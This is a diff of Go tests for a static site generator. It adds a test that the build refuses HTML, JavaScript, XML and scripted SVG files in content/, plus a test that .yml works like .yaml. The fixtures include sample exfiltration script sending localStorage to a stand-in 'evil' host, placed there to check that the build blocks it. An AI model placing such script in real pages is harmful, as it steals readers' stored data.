@@ -4,11 +4,11 @@ import (
 	"errors"
 	"fmt"
 	"html"
+	"mutual/internal/theme"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
 	"os"
-	"path"
 	"path/filepath"
 	"regexp"
 	"runtime"
@@ -304,7 +304,7 @@ func TestFileNamesInURLs(t *testing.T) {
 // error naming both, at the source a writer can change.
 func TestOutputClashes(t *testing.T) {
 	css := "a { color: navy; }\n"
-	hashed := newAsset("css/x.css", []byte(css)).out
+	hashed := theme.NewAsset("css/x.css", []byte(css), "").Out
 	tests := []struct {
 		name  string
 		files map[string]string
@@ -344,7 +344,9 @@ func TestOutputClashes(t *testing.T) {
 		{"a content file on the schema", map[string]string{"content/schema/worksheet.json": "{}\n"},
 			`content/schema/worksheet.json: content/schema/worksheet.json and the worksheet schema would both be published at /schema/worksheet.json`},
 		{"a file where a page needs a folder", map[string]string{"content/guides/notes": "plain text\n", "content/guides/notes.md": "---\ntitle: Notes\n---\n"},
-			`content/guides/notes.md:1:1: content/guides/notes.md would be published at /guides/notes/index.html, inside /guides/notes/, but content/guides/notes is published at /guides/notes itself, as a file`},
+			`content/guides/notes.md: content/guides/notes.md would be published at /guides/notes/index.html, inside /guides/notes/, but content/guides/notes is published at /guides/notes itself, as a file`},
+		{"a slug where a file is", map[string]string{"content/guides/notes": "plain text\n", "content/guides/n.md": "---\ntitle: Notes\nslug: notes\n---\n"},
+			`content/guides/n.md:3:7: content/guides/n.md would be published at /guides/notes/index.html, inside /guides/notes/, but content/guides/notes is published at /guides/notes itself, as a file`},
 		{"a file where the tags need a folder", map[string]string{"content/tags": "plain text\n"},
 			`content/tags: the tags page mutual writes would be published at /tags/index.html, inside /tags/, but content/tags is published at /tags itself, as a file`},
 	}
@@ -368,34 +370,129 @@ func TestOutputClashes(t *testing.T) {
 	}
 }
 
-// FuzzPaths checks the two ways a writer's path becomes a URL: a path
-// escaped for a link unescapes back to itself and holds nothing a URL
-// cannot, and an accepted alias is a clean site path with no part a static
-// host hides (.git) and no "?" or "#".
-func FuzzPaths(f *testing.F) {
-	for _, s := range []string{"guides/a b/", "notes#1.txt", "100%.txt", "é/ü?.md", "/old/path/", "/.git/x", "/a/../b", "/x%2F..%2F/", "/%2e%2e/"} {
-		f.Add(s)
-	}
-	f.Fuzz(func(t *testing.T, s string) {
-		e := pathEscape(s)
-		if back, err := url.PathUnescape(e); err != nil || back != s {
-			t.Fatalf("pathEscape(%q) = %q, unescaped %q (%v)", s, e, back, err)
+// TestActiveContent builds sites with files that can run scripts in
+// content/: each is refused with its path, unless the site trusts its
+// HTML; clean SVG images pass.
+func TestActiveContent(t *testing.T) {
+	for _, trust := range []string{"", "trustHTML: true\n", "markdown: {unsafe: true}\n"} {
+		dir := minimalSite(t)
+		writeFile(t, dir, "content/site.yaml", "title: T\nbaseURL: https://example.org/\n"+trust)
+		writeFile(t, dir, "content/resources.html", "<script>fetch('//evil/?'+JSON.stringify(localStorage))</script>\n")
+		writeFile(t, dir, "content/js/steal.js", "fetch('//evil')\n")
+		writeFile(t, dir, "content/feed/data.XML", "<x/>\n")
+		writeFile(t, dir, "content/img/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg">`+"\n"+`<script>x()</script></svg>`)
+		writeFile(t, dir, "content/img/clean.svg", `<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>`)
+		writeFile(t, dir, "content/guides/a.md", "---\ntitle: A\n---\n![a circle](../img/clean.svg)\n")
+		out := filepath.Join(dir, "public")
+		_, err := New(Options{Dir: dir, Out: out}).Build()
+		if trust != "" {
+			if err != nil {
+				t.Fatalf("%strusted: %v", trust, err)
+			}
+			continue
 		}
-		if strings.ContainsAny(e, " #?\"<>\\^`{|}") || strings.ContainsFunc(e, func(r rune) bool { return r > 126 || r < 33 }) {
-			t.Fatalf("pathEscape(%q) = %q holds a character a URL cannot", s, e)
+		want := []string{
+			"content/feed/data.XML: an XML file in content/ is published as it is, and a script in it could read what readers saved on this site, worksheet answers included: write the page in Markdown instead; if you trust every file of this site, set trustHTML: true in content/site.yaml",
+			"content/img/evil.svg:2:9: it has a <script> element: an SVG image may hold no script, event attribute or reference to another file, since opened on its own it would run with the site's rights; if you trust every file of this site, set trustHTML: true in content/site.yaml",
+			"content/js/steal.js: a JavaScript file in content/",
+			"content/resources.html: an HTML page in content/",
 		}
-		u, msg := aliasURL(s)
-		if msg != "" {
-			return
+		got := ""
+		if err != nil {
+			got = err.Error()
 		}
-		out := outFile(u)
-		if out != path.Clean(out) || strings.HasPrefix(out, "/") || strings.HasPrefix(out, "../") || out == ".." || strings.ContainsAny(u, "?#") {
-			t.Fatalf("alias %q gives the output path %q", s, out)
+		lines := strings.Split(got, "\n")
+		if len(lines) != len(want) {
+			t.Fatalf("errors:\n%s", got)
 		}
-		for _, seg := range strings.Split(out, "/") {
-			if strings.HasPrefix(seg, ".") {
-				t.Fatalf("alias %q gives the output path %q, with a dot part", s, out)
+		for i := range want {
+			if !strings.HasPrefix(lines[i], want[i]) {
+				t.Errorf("error %d:\n%s\nwant\n%s", i, lines[i], want[i])
 			}
 		}
-	})
+		if _, err := os.Stat(out); err == nil {
+			t.Error("a refused build wrote its output")
+		}
+	}
+}
+
+// TestYMLLikeYAML holds that every YAML file of a site may end in .yml as
+// well as .yaml: site.yml, a theme's theme.yml, a worksheet w.yml (page
+// /worksheets/w/, slug "w" in its page); a site or theme with both names is
+// an error naming both.
+func TestYMLLikeYAML(t *testing.T) {
+	const ws = "title: W\nsections:\n  - title: S\n    questions:\n      - {id: a, type: reflection, text: A}\n"
+	tests := []struct {
+		name  string
+		files map[string]string
+		check func(t *testing.T, out string, err error)
+	}{
+		{"a worksheet w.yml", map[string]string{"content/worksheets/w.yml": ws}, func(t *testing.T, out string, err error) {
+			if err != nil {
+				t.Fatal(err)
+			}
+			page, rerr := os.ReadFile(filepath.Join(out, "worksheets", "w", "index.html"))
+			if rerr != nil {
+				t.Fatal(rerr)
+			}
+			if !strings.Contains(string(page), `data-slug="w"`) {
+				t.Errorf("the page does not carry the slug w")
+			}
+		}},
+		{"site.yml", map[string]string{"content/site.yaml": "", "content/site.yml": "title: Y\nbaseURL: https://example.org/\n"}, func(t *testing.T, out string, err error) {
+			if err != nil {
+				t.Fatal(err)
+			}
+			if home, _ := os.ReadFile(filepath.Join(out, "404.html")); !strings.Contains(string(home), "Y</title>") {
+				t.Errorf("site.yml was not read")
+			}
+		}},
+		{"site.yml beside site.yaml", map[string]string{"content/site.yml": "title: Y\nbaseURL: https://example.org/\n"}, func(t *testing.T, out string, err error) {
+			if err == nil || err.Error() != "content/site.yml: a site has one configuration, but content/site.yaml is here too: keep one of them" {
+				t.Errorf("got %v", err)
+			}
+		}},
+		{"errors in site.yml name it", map[string]string{"content/site.yaml": "", "content/site.yml": "title: Y\nbaseURL: https://example.org/\nmenu: [{name: X, url: nope.md}]\n"}, func(t *testing.T, out string, err error) {
+			if err == nil || !strings.HasPrefix(err.Error(), "content/site.yml:3:") {
+				t.Errorf("got %v", err)
+			}
+		}},
+		{"theme.yml", map[string]string{
+			"content/site.yaml":              "title: T\nbaseURL: https://example.org/\ntheme: mine\n",
+			"themes/mine/theme.yml":          "extends: default\n",
+			"themes/mine/static/css/x.css":   "a {}\n",
+			"themes/mine/layouts/.keep.html": "",
+		}, func(t *testing.T, out string, err error) {
+			if err != nil {
+				t.Fatal(err)
+			}
+			if m, _ := filepath.Glob(filepath.Join(out, "css", "x.*.css")); len(m) != 1 {
+				t.Errorf("the theme of theme.yml was not used: %v", m)
+			}
+		}},
+		{"theme.yml beside theme.yaml", map[string]string{
+			"content/site.yaml":      "title: T\nbaseURL: https://example.org/\ntheme: mine\n",
+			"themes/mine/theme.yml":  "extends: default\n",
+			"themes/mine/theme.yaml": "extends: default\n",
+		}, func(t *testing.T, out string, err error) {
+			if err == nil || !strings.Contains(err.Error(), "themes/mine/theme.yml: a theme has one theme.yaml, but themes/mine/theme.yaml is here too") {
+				t.Errorf("got %v", err)
+			}
+		}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := minimalSite(t)
+			for name, body := range tt.files {
+				if body == "" && strings.HasSuffix(name, "site.yaml") {
+					os.Remove(filepath.Join(dir, name))
+					continue
+				}
+				writeFile(t, dir, name, body)
+			}
+			out := filepath.Join(t.TempDir(), "out")
+			_, err := New(Options{Dir: dir, Out: out}).Build()
+			tt.check(t, out, err)
+		})
+	}
 }
